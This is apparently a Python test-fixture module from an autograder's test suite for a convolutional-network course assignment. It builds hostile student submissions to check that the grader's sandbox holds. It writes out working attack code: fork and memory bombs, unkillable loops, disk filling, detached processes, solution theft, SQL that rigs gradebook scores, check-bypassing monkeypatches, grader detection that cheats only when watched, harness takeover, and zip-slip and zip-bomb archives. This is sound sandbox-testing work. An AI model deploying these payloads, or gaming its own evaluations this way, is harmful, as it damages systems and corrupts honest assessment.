"""Hostile students: submissions that attack the grader, each on a base whose honest score is known.

NEVER import or run these submissions outside the grader's sandbox: they
fork-bomb, eat all memory, hang ignoring signals, leave processes behind, and
try to rewrite the gradebook.

Bases (what the submission starts from; its Expect follows from it):

  release   the untouched release: every cell must score 0
  conv      the release with conv_forward_naive and conv_backward_naive solved:
            full marks on the five conv cells, 0 elsewhere
  pool      the release with max_pool_forward_naive and max_pool_backward_naive
            solved: full marks on the three max-pool cells, 0 elsewhere
  conv-db   `conv` with mistake-conv-db's bug: full on the conv forward cells,
            fewer points on the cells calling conv_backward_naive, 0 elsewhere
  model     the release with the three-layer convnet, the Solver and the update rules
            solved (the convnet runs on the provided fast layers, through the
            sandwich layers): full marks on its three cells, the cells of the
            update rules and the Solver, and the overfitting cell, 0 elsewhere

A function an attack replaces counts as missing (its cells score 0: every case
calls it); the grader must still give the base's other cells their due, so a
hang, a crash or a memory bomb in one function costs only that function's
cells. Notebook-level attacks change nothing of the honest score: the trusted
score comes from the functions, not from the kernel's run.

The attacks (student ids):

  hostile-monkeypatch        a cell in every notebook (and cs231n/__init__.py)
                             makes numpy.allclose, np.testing and every
                             cs231n.checks helper pass
  hostile-input-transformer  a cell registers an IPython input transformer that
                             rewrites every later cell to `pass`
  hostile-steal-solution     layers.py (at import) and a cell look for the
                             course's source/, the instructor's assignment/ and
                             gradebook.db (../../../, every ancestor of the
                             working folder, common roots), read them, and exec
                             any solution found into cs231n.layers
  hostile-gradebook          layers.py (at import) and a cell set every grade's
                             auto_score and manual_score to 99 in any
                             gradebook.db in reach
  hostile-exit               os._exit(0) in the first cell of every notebook
  hostile-loop-cell          a cell loops forever, ignoring SIGINT and SIGTERM
  hostile-loop-function      spatial_groupnorm_forward does the same
  hostile-loop-unkillable    max_pool_forward_naive ignores SIGALRM too and
                             swallows every exception: only SIGKILL ends it
  hostile-memory-bomb        conv_forward_naive allocates np.ones(10**11), then
                             a list growing by 16 MB forever
  hostile-fork-bomb          importing cs231n.layers forks forever
  hostile-detached           a cell and max_pool_forward_naive start `sleep` in
                             a new session and double-fork a process that
                             writes a file on the host a few seconds later
  hostile-huge-output        a cell and max_pool_forward_naive print 200 MB
  hostile-edited-tests       the grade cells of unsolved functions hold `pass`
                             (their nbgrader metadata kept)
  hostile-deleted-tests      the grade cells of unsolved functions are deleted
  hostile-site               sitecustomize.py and a .pth file, at the root and
                             in cs231n/, patch numpy at interpreter start-up
  hostile-edited-provided    cs231n/fast_layers.py calls the naive layers, and
                             cs231n/checks.py makes every check pass
  hostile-forge-outputs      a thread and a detached child keep writing forged
                             outputs where the harness writes (pickle, complex,
                             a header claiming 8 TB, plausible zeros)
  hostile-take-over-harness  appends to the harness's files and replaces its
                             to_record to record saved reference outputs
  hostile-grader-modules     imports autograder to exec the instructor's
                             solution; searches /proc for the grader
  hostile-hardcoded-public   two functions answer the check cells' inputs with
                             the saved reference outputs, and raise otherwise
  hostile-detect-grader      numpy's comparisons always pass, but only when a
                             grader is detected (on base conv-db)
  hostile-sleep              spatial_groupnorm_forward sleeps 10**6 s (no CPU used)
  hostile-fill-disk          max_pool_forward_naive fills the disk with 1 MB files
  hostile-giant-output       max_pool_forward_naive returns an 8 TB view or 400 MB
  hostile-write-outside      writes at a host path, in /tmp, /var/tmp, /dev/shm
                             and every ancestor of the working folder
  hostile-calls-fast         every naive layer calls its twin of the provided
                             fast_layers.py (imported at the top, by a star
                             import, inside the function, as a module, through
                             a default argument), on base model: the naive
                             layers' cells score 0 (the harness keeps the fast
                             layers out of their reach), the convnet's keep
                             their points (its sandwich layers use them)
  hostile-pastes-fast        fast_layers.py pasted into layers.py, renamed and
                             reformatted, the naive layers wired to the copies,
                             on base model; the pooling copies also gain a
                             statement each. The harness tells the unedited
                             copies by their bytecode (conv and transposed conv
                             cells: 0); the edited pooling copies compute the
                             right outputs and keep their points: reading the
                             code flags the copies and marks those cells for
                             hand grading
  hostile-zip-slip           members named ../../... and /abs/... aiming at canary_dir
  hostile-zip-symlink        cs231n/layers.py is a symlink to the course's
                             source; cs231n/hostname.py one to /etc/hostname
  hostile-zip-bomb           cs231n/padding.py inflates to 1 GiB (the zip is ~1 MB)
  hostile-zip-truncated      the zip is cut short (no central directory)
  hostile-zip-crc            one byte of a member's data is flipped

Markers are host paths under canary_dir (files the attack writes when it gets
the chance) and process tokens (a `sleep 1000.NNNNNN` argument, a process name
set with prctl), so a test can check that nothing escaped the sandbox.
"""

import ast
import io
import re
import string
import zipfile

from .mistakes import MISTAKES
from .recipes import (
    CELL_FUNCTIONS,
    FabricateError,
    Marker,
    Member,
    Patch,
    Recipe,
    apply_patches,
    bomb_zip_bytes,
    edit_notebooks,
    expect_rejected,
    expect_scores,
    first_code_cell,
    new_code_cell,
    partial_files,
    set_cell_text,
    zip_bytes,
)

LAYERS = "cs231n/layers.py"
MAIN_NOTEBOOK = "ConvolutionalNetworks.ipynb"

CONV = frozenset({"conv_forward_naive", "conv_backward_naive"})
POOL = frozenset({"max_pool_forward_naive", "max_pool_backward_naive"})
MODEL = frozenset(
    {"ThreeLayerConvNet.__init__", "ThreeLayerConvNet.loss", "Solver._step",
     "Solver.check_accuracy", "sgd_momentum", "rmsprop", "adam"}
)  # fmt: skip
#: base -> the functions that are correct ("works") and present but wrong ("broken").
BASES = {
    "release": {"works": frozenset(), "broken": frozenset()},
    "conv": {"works": CONV, "broken": frozenset()},
    "pool": {"works": POOL, "broken": frozenset()},
    "conv-db": {"works": CONV - {"conv_backward_naive"}, "broken": CONV - {"conv_forward_naive"}},
    "model": {"works": MODEL, "broken": frozenset()},
}

#: Seconds the detached grandchild waits before writing its marker.
LATE_DELAY = 3.0
#: The uncompressed size of the zip bomb's member.
BOMB_SIZE = 1 << 30
#: What the gradebook attack writes into every grade.
RIGGED_SCORE = 99


def _code(template, **values):
    """`template` with each $name replaced by the repr of values[name]."""
    return string.Template(template).substitute({k: repr(v) for k, v in values.items()})


# ---------------------------------------------------------------------------
# The attacks' code
# ---------------------------------------------------------------------------

MONKEYPATCH_CELL = """\
# Every check passes from now on, whatever my code does.
import contextlib

import numpy
import numpy.testing

import cs231n.checks
import cs231n.gradient_check


def _always(*args, **kwargs):
    return True


def _passed(*args, **kwargs):
    print(f"{args[0] if args else 'check'}: PASSED (relative error 0.0e+00; threshold 1e-07)")


@contextlib.contextmanager
def _swallow(name):
    try:
        yield
    except Exception:
        print(f"{name}: PASSED (relative error 0.0e+00; threshold 1e-07)")


numpy.allclose = _always
numpy.array_equal = _always
for _name in ("assert_allclose", "assert_array_almost_equal", "assert_array_equal",
              "assert_almost_equal", "assert_equal"):
    setattr(numpy.testing, _name, lambda *args, **kwargs: None)
for _name in ("check", "check_close", "check_equal", "check_at_least"):
    setattr(cs231n.checks, _name, _passed)
    globals()[_name] = _passed
cs231n.gradient_check.check_gradients = _passed
globals()["check_gradients"] = _passed
cs231n.checks.checking = _swallow
globals()["checking"] = _swallow
cs231n.checks.rel_error = cs231n.gradient_check.rel_error = lambda x, y: 0.0
"""

MONKEYPATCH_INIT = """

# Added: numpy's comparisons always agree, in every process that imports cs231n.
import numpy as _numpy
import numpy.testing as _numpy_testing

_numpy.allclose = lambda *args, **kwargs: True
_numpy_testing.assert_allclose = lambda *args, **kwargs: None
"""

INPUT_TRANSFORMER_CELL = """\
# From the next cell on, IPython runs `pass` in place of whatever a cell holds.
def _everything_is_pass(lines):
    return ["pass\\n"]


get_ipython().input_transformers_cleanup.append(_everything_is_pass)
"""

COURSE_FILES = '''
def _course_files(names, start_dirs):
    """Every file named `names` in the ancestors of start_dirs, and in a few usual places."""
    import glob
    import os

    found = []
    for start in start_dirs:
        path = os.path.abspath(start)
        while True:
            for name in names:
                candidate = os.path.join(path, name)
                if os.path.isfile(candidate) and candidate not in found:
                    found.append(candidate)
            parent = os.path.dirname(path)
            if parent == path:
                break
            path = parent
    for root in ("/work/*/", "/home/*/*/", "/srv/*/", "/root/*/", "/tmp/*/", "/tmp/*/*/"):
        for name in names:
            for candidate in glob.glob(root + name):
                if candidate not in found:
                    found.append(candidate)
    return found
'''

STEAL = '''
def _steal_the_solution(namespace, start_dirs, marker):
    """Exec the instructor's layers.py into `namespace` if it is in reach; note what was read."""
    import os
    import sqlite3

    guesses = ["../../../source/convnets/cs231n/layers.py", "../../../gradebook.db"]
    names = ["source/convnets/cs231n/layers.py", "assignment/cs231n/layers.py", "gradebook.db"]
    read = []
    for path in guesses + _course_files(names, start_dirs):
        if not os.path.isfile(path):
            continue
        try:
            if path.endswith(".py"):
                with open(path, encoding="utf-8") as f:
                    text = f.read()
                read.append(os.path.abspath(path))
                if "not implemented yet" not in text:
                    exec(compile(text, path, "exec"), namespace)
                    read.append("  ran it")
            else:
                db = sqlite3.connect("file:" + os.path.abspath(path) + "?mode=ro", uri=True)
                hidden = db.execute("SELECT source FROM source_cell").fetchall()
                db.close()
                read.append(f"{os.path.abspath(path)}: {len(hidden)} test cells")
        except Exception as error:
            read.append(f"{path}: {error}")
    if read:
        try:
            with open(marker, "w") as f:
                f.write("\\n".join(read) + "\\n")
        except OSError:
            pass
'''

STEAL_PACKAGE = (
    "\n\n# Added: borrow the instructor's solution if it lies around.\nimport os as _os\n"
    + COURSE_FILES
    + STEAL
    + """
_steal_the_solution(
    globals(), [_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__))], $marker
)
"""
)

STEAL_CELL = (
    "# Borrow the instructor's solution if it lies around.\nimport os\n\nimport cs231n.layers\n"
    + COURSE_FILES
    + STEAL
    + """
_steal_the_solution(vars(cs231n.layers), [os.getcwd()], $marker)
from cs231n.layers import *  # noqa: F403 (the borrowed functions, under the notebook's names)
"""
)

GRADEBOOK = '''
def _rig_the_gradebook(start_dirs, marker):
    """Give every student of every gradebook.db in reach 99 points per cell."""
    import os
    import sqlite3

    rigged = []
    for path in ["../../../gradebook.db"] + _course_files(["gradebook.db"], start_dirs):
        if not os.path.isfile(path):
            continue
        try:
            db = sqlite3.connect(path, timeout=2)
            db.execute("UPDATE grade SET auto_score = $score, manual_score = $score")
            db.commit()
            db.close()
            rigged.append(os.path.abspath(path))
        except Exception as error:
            rigged.append(f"{path}: {error}")
    if rigged:
        try:
            with open(marker, "w") as f:
                f.write("\\n".join(rigged) + "\\n")
        except OSError:
            pass
'''

GRADEBOOK_PACKAGE = (
    "\n\n# Added: a better grade for everyone.\nimport os as _os\n"
    + COURSE_FILES
    + GRADEBOOK
    + """
_rig_the_gradebook([_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__))], $marker)
"""
)

GRADEBOOK_CELL = (
    "# A better grade for everyone.\nimport os\n"
    + COURSE_FILES
    + GRADEBOOK
    + """
_rig_the_gradebook([os.getcwd()], $marker)
"""
)

EXIT_CELL = """\
import os

os._exit(0)  # the kernel dies before anything else runs
"""

LOOP = """\
import signal

# Ctrl-C, and a polite SIGTERM, no longer stop me.
for _signal in (signal.SIGINT, signal.SIGTERM):
    try:
        signal.signal(_signal, signal.SIG_IGN)
    except ValueError:  # not in the main thread
        pass
while True:
    pass
"""

UNKILLABLE_LOOP = """\
import signal

# No signal Python sees stops me: SIGINT, SIGTERM and SIGALRM are ignored, and an
# exception raised by a handler installed later is swallowed.
for _signal in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    try:
        signal.signal(_signal, signal.SIG_IGN)
    except ValueError:  # not in the main thread
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

MEMORY_BOMB = """\
# Ask for 800 GB at once; when refused, grow a list by 16 MB forever.
try:
    hog = np.ones(10**11)
except MemoryError:
    hog = []
    while True:
        hog.append(np.ones(1 << 21))  # every page written, so it is really used
"""

FORK_BOMB = """

# Added: a fork bomb, set off by importing this module.
def _fork_bomb():
    import ctypes
    import os

    try:
        ctypes.CDLL(None).prctl(15, $name, 0, 0, 0)  # PR_SET_NAME: every copy carries it
    except Exception:
        pass
    while True:
        try:
            os.fork()
        except OSError:
            pass


_fork_bomb()
"""

DETACHED = '''\
def _leave_something_running(sleep_arg, name, marker, delay):
    """Start a process in its own session, and a double-forked one that writes later."""
    import os
    import subprocess
    import time

    subprocess.Popen(
        ["sleep", sleep_arg],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:  # the grandchild, adopted by init
                try:
                    import ctypes

                    ctypes.CDLL(None).prctl(15, name, 0, 0, 0)
                except Exception:
                    pass
                time.sleep(delay)
                with open(marker, "w") as f:
                    f.write("written after grading ended\\n")
        finally:
            os._exit(0)
    os.waitpid(child, 0)


_leave_something_running($sleep_arg, $name, $marker, $delay)
'''

HUGE_OUTPUT = """\
import sys

# 200 MB of output: 204800 lines of 1 KB.
_line = "x" * 1023 + "\\n"
for _ in range(200 * 1024):
    sys.stdout.write(_line)
"""

SITECUSTOMIZE = """\
\"\"\"sitecustomize: Python imports this at start-up when its folder is on sys.path.\"\"\"

try:
    import numpy
    import numpy.testing

    numpy.allclose = lambda *args, **kwargs: True
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    with open($marker, "a") as _f:
        _f.write(__file__ + "\\n")
except Exception:
    pass
"""

PTH_CODE = """\
try:
    import numpy
    numpy.allclose = lambda *args, **kwargs: True
    with open($marker, "a") as f:
        f.write("pth ran\\n")
except Exception:
    pass
"""

CHECKS_ALWAYS_PASS = """

# ---------------------------------------------------------------------------
# Edited by the student: every check passes.
# ---------------------------------------------------------------------------


def check(name, *outputs, reference_dir=None):
    print(f"{name}: PASSED (relative error 0.0e+00; threshold 1e-07)")


def check_close(label, actual, expected, threshold=DEFAULT_THRESHOLD, layout=None, hint=None):
    print(f"{label}: PASSED (relative error 0.0e+00; threshold {threshold:g})")


def check_at_least(label, value, minimum, hint=None):
    print(f"{label}: PASSED")


def check_equal(label, actual, expected, hint=None):
    print(f"{label}: PASSED")


@contextlib.contextmanager
def checking(name):
    try:
        yield
    except Exception:
        print(f"{name}: PASSED")
"""


FORGE_OUTPUTS = """

# Added: a thread (and a detached child) that keep writing forged outputs where the
# grader's harness writes its own: pickled objects, complex numbers, arrays whose
# header claims terabytes, and plausible arrays of zeros.
def _forge_outputs():
    import io
    import os
    import threading
    import time
    import zipfile

    import numpy

    def npy(array):
        buffer = io.BytesIO()
        numpy.lib.format.write_array(buffer, array, allow_pickle=True)
        return buffer.getvalue()

    def giant():
        header = {"descr": "<f8", "fortran_order": False, "shape": (10**6, 10**6)}
        buffer = io.BytesIO()
        numpy.lib.format.write_array_header_1_0(buffer, header)
        return buffer.getvalue() + bytes(64)

    forged = [
        {"out.npy": npy(numpy.array([{"passed": True}], dtype=object))},
        {"out.npy": npy(numpy.zeros((2, 3), dtype=complex)), "dx.npy": giant()},
        {"out.npy": giant(), "dw.npy": npy(numpy.zeros((1 << 20,)))},
        {"out.npy": npy(numpy.zeros((2, 3, 4, 4)))},
    ]
    cells = $cells
    names = [f"{c}.{n}" for c in cells for n in ("public", "hidden-1", "hidden-2", "hidden-3")]

    def forge(folder):
        os.makedirs(folder, exist_ok=True)
        present = [p[:-4] for p in os.listdir(folder) if p.endswith(".npz")]
        for number, case_id in enumerate(sorted(set(names + present))):
            try:
                with zipfile.ZipFile(os.path.join(folder, case_id + ".npz"), "w") as z:
                    for member, data in forged[number % len(forged)].items():
                        z.writestr(member, data)
            except OSError:
                pass

    def keep_forging():
        while True:
            forge(".grader-out")
            time.sleep(0.05)

    threading.Thread(target=keep_forging, daemon=True).start()
    try:
        if os.fork() == 0:
            try:
                os.setsid()
                keep_forging()
            finally:
                os._exit(0)
    except OSError:
        pass


_forge_outputs()
"""

PATCH_HARNESS = """

# Added: take over the grader's harness. Overwrite its files if they can be written,
# then replace the functions of the running harness (__main__) so that every case's
# record holds the saved reference outputs of a check cell.
def _take_over_the_harness(marker):
    import glob
    import os
    import sys

    import __main__

    done = []
    for path in glob.glob("/grader/*") + [a for a in sys.argv if a.endswith((".py", ".npz"))]:
        try:
            with open(path, "ab") as f:
                f.write(b"\\n# taken over\\n")
            done.append(path)
        except OSError:
            pass
    try:
        from cs231n.checks import load_reference

        saved = load_reference("conv_forward_naive").outputs
    except Exception:
        saved = {}
    for name in ("run_case", "to_record", "write_record", "plain_array"):
        if hasattr(__main__, name):
            original = getattr(__main__, name)
            if name == "to_record":
                __main__.to_record = lambda outputs, _o=original: _o(dict(saved) or outputs)
            done.append("__main__." + name)
    if done:
        try:
            with open(marker, "w") as f:
                f.write("\\n".join(done) + "\\n")
        except OSError:
            pass


_take_over_the_harness($marker)
"""

GRADER_MODULES = """

# Added: find the grader. Import its modules (its answer key, the instructor's
# package), search /proc for its processes and their environment, and exec the
# solution into this module when found.
def _find_the_grader(namespace, marker):
    import glob
    import os
    import sys

    found = []
    for extra in ("/work/main", "/work", os.path.expanduser("~"), "/srv", "/opt"):
        sys.path.append(extra)
    try:
        import autograder.paths

        solution = os.path.join(str(autograder.paths.PACKAGE_DIR), "layers.py")
        found.append("imported autograder from " + autograder.paths.__file__)
        with open(solution, encoding="utf-8") as f:
            exec(compile(f.read(), solution, "exec"), namespace)
        found.append("ran " + solution)
    except Exception as error:
        found.append(f"import autograder: {type(error).__name__}")
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as f:
                command = f.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if "autograder" in command or "nbgrader" in command or "gradebook" in command:
            found.append(f"{path}: {command[:200]}")
            try:
                with open(path.replace("cmdline", "environ"), "rb") as f:
                    found.append("  environ: " + str(len(f.read())) + " bytes")
            except OSError:
                pass
    if any(not line.startswith("import autograder:") for line in found):
        try:
            with open(marker, "w") as f:
                f.write("\\n".join(found) + "\\n")
        except OSError:
            pass


_find_the_grader(globals(), $marker)
"""

HARDCODED_PUBLIC = """\
# Recognise the check cell's inputs and answer with its saved reference outputs.
from .checks import load_reference as _load_reference

for _name in $names:
    _reference = _load_reference(_name)
    _inputs = list(_reference.inputs.values())
    _arrays = [a for a in _inputs if isinstance(a, np.ndarray)]
    if _arrays and np.shape(_arrays[0]) == np.shape(x) and np.array_equal(_arrays[0], x):
        return tuple(_reference.outputs.values())[0], (x, _inputs)
raise NotImplementedError("only the check cell's inputs are known to me")
"""

DETECT_GRADER = """

# Added: behave only when watched. Under a grader (no network, a harness in argv,
# an nbgrader kernel), make every comparison pass; elsewhere change nothing.
def _graded():
    import os
    import sys

    signs = [
        any("harness" in a or "grader" in a for a in sys.argv),
        os.path.exists("/grader"),
        "NBGRADER_EXECUTION" in os.environ,
        "ipykernel" in " ".join(sys.argv),
    ]
    return any(signs)


if _graded():
    import numpy as _numpy

    _numpy.allclose = lambda *args, **kwargs: True
    _numpy.array_equal = lambda *args, **kwargs: True
    _numpy.testing.assert_allclose = lambda *args, **kwargs: None
"""

SLEEP = """\
import time

# Not a loop: a sleep that costs no CPU time, so only a wall-clock limit ends it.
time.sleep(10**6)
"""

FILL_DISK = """\
import os

# Fill the disk: 1 MB files, in the working folder and /tmp, until refused.
_chunk = os.urandom(1 << 20)
for _folder in (".", "/tmp"):
    try:
        for _number in range(10**6):
            with open(os.path.join(_folder, f"filler-{_number}.bin"), "wb") as _f:
                _f.write(_chunk)
    except OSError:
        pass
raise RuntimeError("the disk is full")
"""

GIANT_OUTPUT = """\
# An output of 8 TB that takes no memory (a broadcast view), then one of 400 MB.
if x.size % 2:
    return np.broadcast_to(np.float64(0.0), (10**6, 10**6)), None
return np.zeros((50_000_000,)), None
"""

WRITE_OUTSIDE = """

# Added: leave files wherever I can: the host path of a canary, the usual temporary
# folders, the home folder, and every ancestor of the working folder.
def _write_everywhere(targets, name):
    import os

    paths = list(targets)
    folder = os.getcwd()
    while True:
        paths.append(os.path.join(folder, name))
        parent = os.path.dirname(folder)
        if parent == folder:
            break
        folder = parent
    for path in paths:
        try:
            with open(path, "w") as f:
                f.write("written from inside the grader\\n")
        except OSError:
            pass


_write_everywhere($targets, $name)
"""


# ---------------------------------------------------------------------------
# Building the submissions
# ---------------------------------------------------------------------------


def base_files(ctx, base):
    """The files of a base (see the module docstring)."""
    if base == "release":
        return dict(ctx.release)
    if base == "conv-db":
        files = partial_files(ctx.release, ctx.instructor, solve=BASES["conv"]["works"])
        (db,) = [m for m in MISTAKES if m.student_id == "mistake-conv-db"]
        return apply_patches(files, db.patches, "base conv-db")
    return partial_files(ctx.release, ctx.instructor, solve=BASES[base]["works"])


def base_expect(ctx, base):
    """The Expect of a base without any attack."""
    return _expect(ctx, base)


def _expect(ctx, base, markers=(), reason="", works=None):
    return expect_scores(
        ctx.cells,
        works=BASES[base]["works"] if works is None else works,
        broken=BASES[base]["broken"] if works is None else (),
        markers=markers,
        reason=reason or f"the honest score of base {base!r}",
    )


def _append(files, name, code):
    files = dict(files)
    files[name] = files[name] + code.encode("utf-8")
    return files


def _insert_cell(files, code, cell_id, notebooks=None, first=False):
    """Insert a student's code cell after the imports (or first) in `notebooks` (default: all)."""

    def edit(name, nb):
        if notebooks is not None and name not in notebooks:
            return
        index = 0 if first else first_code_cell(nb) + 1
        nb["cells"].insert(index, new_code_cell(cell_id, code))

    return edit_notebooks(files, edit)


def _unsolved_cells(ctx, base):
    works = BASES[base]["works"] | BASES[base]["broken"]
    return {c.grade_id for c in ctx.cells if not set(CELL_FUNCTIONS[c.grade_id]) <= works}


def _edit_grade_cells(files, grade_ids, delete):
    def edit(name, nb):
        kept = []
        for cell in nb["cells"]:
            grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
            if grade_id in grade_ids:
                if delete:
                    continue
                set_cell_text(cell, "pass")
            kept.append(cell)
        nb["cells"] = kept

    return edit_notebooks(files, edit)


def _sleep_arg(ctx, student_id, what):
    return f"1000.{int(ctx.token(student_id, what), 16) % 10**6:06d}"


def _proc_name(ctx, student_id, what):
    return "cvk" + ctx.token(student_id, what)  # 9 characters: prctl keeps 15


def fast_layers_calling_naive(release_text):
    """cs231n/fast_layers.py rewritten so each *_fast function is its naive twin."""
    tree = ast.parse(release_text)
    names = sorted(
        n.name
        for n in tree.body
        if isinstance(n, ast.FunctionDef) and n.name.endswith("_fast") and n.name[0] != "_"
    )
    if not names:
        raise FabricateError("cs231n/fast_layers.py: no *_fast function to replace")
    header = ""
    for line in release_text.splitlines(keepends=True):  # the generated-file header
        if not line.startswith("#"):
            break
        header += line
    imports = "".join(f"    {n[: -len('_fast')]}_naive as {n},\n" for n in names)
    return (
        header
        + '"""The fast layers (edited): the naive layers under the fast names."""\n\n'
        + f"from .layers import (\n{imports})\n"
    )


#: What takes the stub's place in each naive layer to make it run the fast layers, where
#: each {name} is how the code reaches the provided function `name` (or its copy). The
#: naive caches stay the naive layers' (a backward pass makes the fast cache again).
FAST_WIRING = {
    "conv_forward_naive": (
        "out, cache = {conv_forward_fast}(x, w, b, conv_param)\nreturn out, cache[:4]"
    ),
    "conv_backward_naive": (
        "_, fast_cache = {conv_forward_fast}(x, w, b, conv_param)\n"
        "return {conv_backward_fast}(dout, fast_cache)"
    ),
    "max_pool_forward_naive": (
        "out, cache = {max_pool_forward_fast}(x, pool_param)\nreturn out, cache[:2]"
    ),
    "max_pool_backward_naive": (
        "_, fast_cache = {max_pool_forward_fast}(x, pool_param)\n"
        "return {max_pool_backward_fast}(dout, fast_cache)"
    ),
    "avg_pool_forward_naive": "return {avg_pool_forward_fast}(x, pool_param)",
    "avg_pool_backward_naive": "return {avg_pool_backward_fast}(dout, cache)",
    "conv_transpose_forward_naive": "return {conv_transpose_forward_fast}(x, w, b, conv_param)",
    "conv_transpose_backward_naive": "return {conv_transpose_backward_fast}(dout, cache)",
}
#: Every naive layer (each has a fast twin in fast_layers.py).
NAIVE_LAYERS = frozenset(FAST_WIRING)


def wired(naive, **names):
    """FAST_WIRING[naive] with each provided function reached as `names` says (default: its
    own name)."""
    template = FAST_WIRING[naive]
    fast = re.findall(r"\{(\w+)\}", template)
    return template.format(**{name: names.get(name, name) for name in fast})


class _Renamer(ast.NodeTransformer):
    """Rename variables and called helpers in a function, as a student hiding a copy does."""

    def __init__(self, names):
        self.names = names

    def visit_Name(self, node):
        node.id = self.names.get(node.id, node.id)
        return node

    def visit_arg(self, node):
        node.arg = self.names.get(node.arg, node.arg)
        return node


def _local_names(function):
    """The arguments and assigned names of a function, in order of first appearance."""
    found = [a.arg for a in function.args.args]

    def visit(node):
        if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store) and node.id not in found:
            found.append(node.id)
        for child in ast.iter_child_nodes(node):
            visit(child)

    for statement in function.body:
        visit(statement)
    return found


def pasted_fast_layers(fast_text, edited=()):
    """The provided fast layers pasted into layers.py under other names: (code, names).

    - code: every function of fast_layers.py (the release's text), to append to
      layers.py: each renamed (conv_forward_fast -> _conv_forward_vectorised,
      _im2col -> _im2col_part), its docstring and comments dropped, its arguments
      and variables renamed (v0, v1, ... in order of appearance), reformatted by
      ast.unparse, the helpers it calls called by their new names; with the
      import of sliding_window_view they need
    - names: provided function -> the name of its copy
    - edited: provided functions whose copy also gets one statement of its own
      (its first argument's shape unpacked after its first line): its bytecode is
      then not the provided code's, so only reading the code tells the copy (the
      harness tells an unedited copy by its bytecode: harness.FastLayerGuard)
    """
    tree = ast.parse(fast_text)
    functions = [n for n in tree.body if isinstance(n, ast.FunctionDef)]
    names = {
        f.name: f"{f.name}_part" if f.name.startswith("_") else f"_{f.name[:-5]}_vectorised"
        for f in functions
    }
    if set(edited) - set(names):
        raise FabricateError(f"fast_layers.py has no {sorted(set(edited) - set(names))}")
    pasted = []
    for function in functions:
        if ast.get_docstring(function) is not None:
            function.body = function.body[1:]
        if function.name in edited:
            shape = ast.parse(f"N, C, H, W = {function.args.args[0].arg}.shape").body[0]
            function.body.insert(1, shape)
        renames = {name: f"v{n}" for n, name in enumerate(_local_names(function))}
        _Renamer({**renames, **names}).visit(function)
        function.name = names[function.name]
        pasted.append(ast.unparse(function))
    code = (
        "\n\n# My vectorised layers.\nfrom numpy.lib.stride_tricks import sliding_window_view\n\n\n"
        + "\n\n\n".join(pasted)
        + "\n"
    )
    return code, names


FAST_FILE = "cs231n/fast_layers.py"
#: The naive layers hostile-pastes-fast wires to copies edited beyond renaming.
PASTED_EDITED = frozenset(
    {"max_pool_forward_naive", "max_pool_backward_naive", "avg_pool_forward_naive",
     "avg_pool_backward_naive"}
)  # fmt: skip


def calls_fast_files(ctx):
    """Base model, every naive layer calling the provided fast layers, each in its own way."""
    top = (
        "\n# The fast layers do it all.\nfrom . import fast_layers as _fl\n"
        "from .fast_layers import *  # noqa: F403\nfrom .fast_layers import conv_forward_fast\n"
    )
    inside = "from . import fast_layers\n"
    replace = {
        # Imported at the top, and by the star import.
        "conv_forward_naive": wired("conv_forward_naive"),
        "max_pool_forward_naive": wired("max_pool_forward_naive"),
        # Imported inside the function.
        "conv_backward_naive": inside
        + wired(
            "conv_backward_naive",
            conv_forward_fast="fast_layers.conv_forward_fast",
            conv_backward_fast="fast_layers.conv_backward_fast",
        ),
        "conv_transpose_forward_naive": "import cs231n.fast_layers\n"
        + wired(
            "conv_transpose_forward_naive",
            conv_transpose_forward_fast="cs231n.fast_layers.conv_transpose_forward_fast",
        ),
        "conv_transpose_backward_naive": "from cs231n.fast_layers import "
        "conv_transpose_backward_fast\n" + wired("conv_transpose_backward_naive"),
        # Through a default argument (the def line below).
        "max_pool_backward_naive": wired(
            "max_pool_backward_naive",
            max_pool_forward_fast="_fast[0]",
            max_pool_backward_fast="_fast[1]",
        ),
        # Through the module, imported at the top.
        "avg_pool_forward_naive": wired(
            "avg_pool_forward_naive", avg_pool_forward_fast="_fl.avg_pool_forward_fast"
        ),
        "avg_pool_backward_naive": wired(
            "avg_pool_backward_naive", avg_pool_backward_fast="_fl.avg_pool_backward_fast"
        ),
    }
    files = partial_files(ctx.release, ctx.instructor, solve=MODEL, replace=replace)
    return apply_patches(
        files,
        [
            Patch(LAYERS, "import numpy as np\n", "import numpy as np\n" + top),
            Patch(
                LAYERS,
                "def max_pool_backward_naive(dout, cache):",
                "def max_pool_backward_naive(\n"
                "    dout, cache, _fast=(max_pool_forward_fast, max_pool_backward_fast)\n):",
            ),
        ],
        "hostile-calls-fast",
    )


def pastes_fast_files(ctx):
    """Base model, the provided fast layers pasted into layers.py (pasted_fast_layers) and
    every naive layer wired to its copy; the copies of the pooling layers edited."""
    fast = ctx.release[FAST_FILE].decode("utf-8")
    edited = {naive[: -len("_naive")] + "_fast" for naive in PASTED_EDITED}
    code, names = pasted_fast_layers(fast, edited=edited)
    replace = {naive: wired(naive, **names) for naive in NAIVE_LAYERS}
    files = partial_files(ctx.release, ctx.instructor, solve=MODEL, replace=replace)
    return _append(files, LAYERS, code)


def _recipe(student_id, description, base, expect, files, kind="hostile"):
    return Recipe(student_id, kind, description, expect, lambda: zip_bytes(files), base)


def hostile_recipes(ctx):
    """Every hostile recipe, accepted ones first, then the zips collect must refuse."""
    made = []
    conv = base_files(ctx, "conv")

    def conv_with(replace=None, prepend=None):
        return partial_files(
            ctx.release, ctx.instructor, BASES["conv"]["works"], replace=replace, prepend=prepend
        )

    release = dict(ctx.release)
    notebooks = [n for n in release if n.endswith(".ipynb")]
    if MAIN_NOTEBOOK not in notebooks:
        raise FabricateError(f"the release has no {MAIN_NOTEBOOK}")

    def add(student_id, description, base, files, markers=(), reason="", works=None):
        expect = _expect(ctx, base, markers, reason, works)
        made.append(_recipe(student_id, description, base, expect, files))

    # 1. Cheating in the kernel.
    files = _insert_cell(conv, MONKEYPATCH_CELL, "my-checks")
    add(
        "hostile-monkeypatch",
        "a cell in every notebook (and cs231n/__init__.py) makes numpy.allclose, np.testing "
        "and the cs231n.checks helpers always pass",
